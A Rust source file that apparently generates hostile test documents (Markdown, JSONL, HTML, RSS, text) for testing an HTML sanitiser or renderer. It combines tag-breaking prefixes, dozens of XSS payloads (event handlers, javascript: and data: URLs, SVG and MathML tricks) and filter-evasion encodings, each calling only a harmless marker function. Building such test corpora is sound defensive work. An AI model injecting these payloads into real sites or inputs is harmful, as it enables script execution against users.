//! Hostile documents, made by a grammar: what breaks out of a place, what then runs, and how it is disguised.
//!
//! Every string that would run calls `dovecoteRan`, which is nobody's function: a browser that has one knows when it
//! happened. Numbered, so that the same documents come out every time, on any machine.

use serde_json::json;

/// What ends the place a text stands in, so that what follows is read as something else.
const BREAKERS: [&str; 22] = [
    "",
    "\">",
    "'>",
    "\" ",
    "' ",
    "` ",
    ">",
    "/>",
    "-->",
    "--!>",
    "]]>",
    "</title>",
    "</style>",
    "</script>",
    "</textarea>",
    "</noscript>",
    "</template>",
    "</a></p></main>",
    "</svg></math>",
    "<!--",
    "<![CDATA[",
    "\u{0}\">",
];

/// What runs, where it is markup. `@` is the call.
const VEHICLES: [&str; 48] = [
    "<script>@</script>",
    "<script src=\"data:text/javascript,@\"></script>",
    "<script type=module>@</script>",
    "<script type=\"application/ld+json\">{}</script><script>@</script>",
    "<img src=x onerror=@>",
    "<img src=x onerror=\"@\">",
    "<img/src=x/onerror=@//",
    "<image href=x onerror=@>",
    "<svg onload=@>",
    "<svg><script>@</script></svg>",
    "<svg><animate onbegin=@ attributeName=x dur=1s>",
    "<svg><a href=\"javascript:@\"><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=@>#x\"></svg>",
    "<svg><foreignObject><img src=x onerror=@></foreignObject></svg>",
    "<svg><style><img src=x onerror=@></style></svg>",
    "<math><mtext><img src=x onerror=@></mtext></math>",
    "<math href=\"javascript:@\">x</math>",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=@></annotation-xml></math>",
    "<iframe src=\"javascript:@\"></iframe>",
    "<iframe srcdoc=\"<img src=x onerror=parent.@>\"></iframe>",
    "<object data=\"javascript:@\"></object>",
    "<embed src=\"javascript:@\">",
    "<base href=\"javascript:/@//\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:@\">",
    "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src *\">",
    "<link rel=stylesheet href=\"data:text/css,*{}\" onload=@>",
    "<link rel=modulepreload href=x onerror=@>",
    "<style>@import 'data:text/css,*{}';</style>",
    "<style onload=@>*{}</style>",
    "<body onload=@ onpageshow=@>",
    "<form action=\"javascript:@\"><input type=submit autofocus></form>",
    "<form id=main><input name=attributes onfocus=@ autofocus></form>",
    "<button formaction=\"javascript:@\" autofocus>x</button>",
    "<input autofocus onfocus=@>",
    "<select autofocus onfocus=@><option>x</select>",
    "<textarea autofocus onfocus=@></textarea>",
    "<details open ontoggle=@><summary>x</summary></details>",
    "<dialog open onfocusin=@><a href=x autofocus>x</a></dialog>",
    "<video autoplay><source src=x onerror=@></video>",
    "<audio src=x onerror=@></audio>",
    "<marquee onstart=@>x</marquee>",
    "<p style=\"animation:x 1s\" onanimationstart=@>x</p>",
    "<a href=\"javascript:@\" id=main name=status>x</a>",
    "<a href=x onmouseover=@ onfocus=@ tabindex=0 autofocus>x</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=@>\"></noscript>",
    "<template shadowrootmode=open><img src=x onerror=@></template>",
    "<div data-action=retry data-file=\"../../x\" data-tick=0 data-copy=\"@\">x</div>",
    "onmouseover=@ autofocus onfocus=@ style=position:fixed;inset:0 x=",
];

/// What runs, where it is an address. `@` is the call.
const ADDRESSES: [&str; 30] = [
    "javascript:@",
    "JaVaScRiPt:@",
    " javascript:@",
    "\tjavascript:@",
    "java\tscript:@",
    "java\nscript:@",
    "java\r\nscript:@",
    "javascript\t:@",
    "\u{1}javascript:@",
    "\u{b}javascript:@",
    "\u{a0}javascript:@",
    "\u{200b}javascript:@",
    "javascript&colon;@",
    "java&Tab;script:@",
    "&#106;avascript:@",
    "&#x6A;avascript&#58;@",
    "javascript%3A@",
    "javascript://example.org/%0A@",
    "javascript:/*--></title>*/@",
    "vbscript:@",
    "data:text/html,<script>@</script>",
    "data:text/html;base64,PHNjcmlwdD5kb3ZlY290ZVJhbigpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload=@>",
    "blob:https://example.org/@",
    "view-source:javascript:@",
    "//example.org/@",
    "\\\\example.org\\@",
    "https://example.org/\" onclick=@ x=\"",
    "https://example.org/' onclick='@",
    "mailto:x@example.org\" onclick=\"@",
];

/// How a string is disguised, so that what looks for it does not see it and what decodes it once too often does.
const DISGUISES: [fn(&str) -> String; 12] = [
    str::to_owned,
    str::to_ascii_uppercase,
    |text| text.replace('<', "&lt;").replace('>', "&gt;"),
    |text| text.replace('<', "&amp;lt;").replace('"', "&amp;quot;"),
    |text| text.replace('<', "&#60;").replace('>', "&#x3E"),
    |text| {
        text.replace('<', "%3C")
            .replace('>', "%3E")
            .replace('"', "%22")
    },
    |text| text.replace('<', "\\u003c").replace('"', "\\u0022"),
    |text| text.replace('<', "\u{ff1c}").replace('>', "\u{ff1e}"),
    |text| text.replace('<', "+ADw-").replace('>', "+AD4-"),
    |text| {
        text.replace("script", "scr<script>ipt")
            .replace("on", "oonn")
    },
    |text| text.replace('<', "<\u{0}").replace('=', "\u{c}=\u{c}"),
    |text| text.replace(' ', "/").replace('=', "\n=\n"),
];

/// Number of different strings of markup.
const MARKUP: usize = BREAKERS.len() * VEHICLES.len() * DISGUISES.len();

fn call(number: usize) -> String {
    format!("dovecoteRan({number})")
}

/// A string that is markup where nobody escapes it. Neighbouring numbers differ in everything.
pub fn markup(number: usize) -> String {
    // A prime, so that every string is met once before any is met again.
    let at = number.wrapping_mul(7_919) % MARKUP;
    let breaker = BREAKERS[at % BREAKERS.len()];
    let vehicle = VEHICLES[at / BREAKERS.len() % VEHICLES.len()];
    let disguise = DISGUISES[at / BREAKERS.len() / VEHICLES.len()];
    disguise(&format!("{breaker}{}", vehicle.replace('@', &call(number))))
}

/// A string that runs as an address where nobody looks at its scheme.
pub fn address(number: usize) -> String {
    ADDRESSES[number % ADDRESSES.len()].replace('@', &call(number))
}

/// A string on one line, as the places want it that have only one.
fn line(text: &str) -> String {
    text.chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect()
}

/// A document: its file name and its text. Every shape that is read takes its turn.
pub fn document(number: usize) -> (String, String) {
    let (name, text) = shaped(number);
    // No text file has one; where JSON spells it, it stays.
    (name, text.replace('\0', "\u{1}"))
}

fn shaped(number: usize) -> (String, String) {
    let mut next = number * 16;
    let mut any = || {
        next += 1;
        markup(next)
    };
    let name = |extension: &str| format!("hostile-{number:04}.{extension}");
    let (title, text, more, category, label) = (any(), any(), any(), any(), any());
    let (source, url, other) = (line(&any()), address(number * 3), address(number * 3 + 1));
    let [title, category, label] = [title, category, label].map(|text| line(&text));
    let day = format!("2025-{:02}-{:02}", number % 12 + 1, number % 28 + 1);
    match number % 6 {
        0 => (
            name("md"),
            format!(
                "---\ntitle: {}\ndate: {day}\nsource: {}\nsource_url: {}\ncategories: [{}, {}]\naliases: [{}]\n---\n\n{text}\n\n\
                 A [link {number}]({url}) and [{}](<{}>) and ![{}]({other}) and <{}>.\n\n## {}\n\n```{}\n{more}\n```\n\n\
                 - {}\n\n| a | b |\n|---|---|\n| {} | `{}` |\n\n> {}\n\n{text}\n",
                json!(format!("{number} {title}")),
                json!(source),
                json!(url),
                json!(category),
                json!(label),
                json!(format!("/old/{}", line(&any()))),
                line(&any()),
                line(&other),
                line(&any()),
                line(&url),
                line(&any()),
                label,
                line(&any()),
                line(&any()).replace('|', " "),
                line(&any()).replace(['|', '`'], " "),
                line(&any()),
            ),
        ),
        1 => {
            let record = json!({
                "id": format!("{number} {title}"), "title": format!("{number} {title}"), "text": format!("{text}\n\n{more}\n\n{}", any()),
                "labels": [category, label], "date": day, "source": source,
            });
            (name("jsonl"), format!("{record}\n"))
        }
        2 => (
            name("txt"),
            format!(
                "Logo\nKnow what you should know!\n\nHome \u{a0} \u{a0} Categories ... Search ... Subscribe\n\n{number} {title}\n\n\
                 source.example -- Sunday, August 17, 2025, 11:57:16\u{202f}AM Eastern Daylight Time\nCategories: {}, {}\n\
                 {number} {title}\n\n{}\n\n{}\n\nExpand\n\nSign Our Petition\n\n\nOpinion:\n\n{}\n\nAction:\n\n{}\n\nTo Do:\n\n\
                 1. **{}:** - Email: x@example.org{} - Website: {} - [call]({}) - Phone: 202-555-0100\n\n\nSign Our Petition\n\n\n\
                 1 Related Article(s):\n\n{}\n\n\nUpdated very often\nAll Opinions and Actions are (C)opyright 2025",
                category.replace(',', " "),
                label.replace(',', " "),
                line(&text),
                line(&more),
                line(&any()),
                line(&any()),
                line(&any()),
                line(&any()),
                line(&url),
                line(&other),
                line(&any()),
            ),
        ),
        3 => (
            name("html"),
            format!(
                "<!doctype html><html><head><title>{number} {title}</title></head><body><article><h1>{number} {title}</h1>\
                 <p>{text}</p><p>Enough words stand here for a paragraph that is kept.</p><p><a href=\"{url}\">{label}</a> \
                 <img src=\"{other}\" alt=\"{more}\"></p><ul><li>{}</li></ul><table><tr><td>{}</td></tr></table>\
                 <pre><code class=\"language-{label}\">{}</code></pre></article></body></html>",
                any(),
                any(),
                any(),
            ),
        ),
        4 => {
            let escaped = |text: &str| {
                line(text)
                    .replace('&', "&amp;")
                    .replace('<', "&lt;")
                    .replace('>', "&gt;")
                    .replace('"', "&quot;")
            };
            (
                name("xml"),
                format!(
                    "<?xml version=\"1.0\"?>\n<rss version=\"2.0\"><channel><title>{}</title><link>{}</link><description>{}</description>\
                     <item><title>{number} {}</title><link>{}</link><guid>{number}</guid><category>{}</category>\
                     <pubDate>Sun, 17 Aug 2025 11:57:16 GMT</pubDate><description>{}</description></item></channel></rss>\n",
                    escaped(&any()),
                    escaped(&other),
                    escaped(&any()),
                    escaped(&title),
                    escaped(&url),
                    escaped(&category),
                    escaped(&format!("<p>{text}</p><a href=\"{url}\">{more}</a>")),
                ),
            )
        }
        _ => (
            name("txt"),
            format!(
                "{number} {title}\n{}\n{} {more}\n{}\n{} Here are more words, so that this is a paragraph and no heading of anything.\n",
                line(&any()),
                line(&text),
                line(&any()),
                line(&any()),
            ),
        ),
    }
}
